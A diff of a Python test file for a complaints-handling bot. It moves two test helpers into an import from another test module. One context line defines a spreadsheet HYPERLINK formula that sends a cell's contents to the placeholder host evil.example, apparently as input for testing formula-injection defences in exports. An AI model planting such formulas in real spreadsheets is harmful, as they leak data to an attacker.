@@ -29,6 +29,7 @@ from db.indicators import ActivityInput, ProgramInput, upsert_activities, upsert
 from db.models import Complaint, ComplaintEvent, ComplaintRating, ProgramIndicator
 from iku.skm import UNSUR_KEYS
 from iku.survey_forms import PaperForm, SurveyAnswers
+from tests.bot.test_complaints_cli import config_file, run
 from tests.factories import BotHarness, file_complaint, move
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"klik")'
@@ -44,15 +45,6 @@ WIB = ZoneInfo("Asia/Jakarta")
 NOW = datetime(2025, 2, 17, 2, tzinfo=UTC)
 
 
-def config_file(tmp_path: Path, database_url: str) -> Path:
-    path = tmp_path / "config.toml"
-    path.write_text(
-        f"[database]\nurl = '{database_url}'\n[complaints]\nphoto_dir = '{tmp_path}/photos'\n",
-        encoding="utf-8",
-    )
-    return path
-
-
 @pytest.fixture
 def cli(
     bot: BotHarness, tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
@@ -60,11 +52,6 @@ def cli(
     """``ajung-bot --config ...`` on the bot's database, at the bot's clock."""
     monkeypatch.setattr("db.base.utcnow", bot.clock)
     return ["--config", str(config_file(tmp_path, database_url))]
-
-
-async def run(*args: str) -> int:
-    """The CLI as a person runs it (it starts its own event loop, so in a thread here)."""
-    return await asyncio.to_thread(main, list(args))
 
 
 def xlsx_cells(path: Path) -> Iterator[Any]:
